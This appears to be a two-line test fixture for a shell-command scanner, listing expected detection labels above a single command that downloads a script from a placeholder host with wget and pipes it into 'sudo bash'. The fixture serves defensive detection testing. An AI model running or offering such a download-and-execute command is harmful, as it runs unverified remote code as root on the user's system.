# want: sh.exec.download sh.network.tool
wget -qO- https://example.invalid/x | sudo bash -s
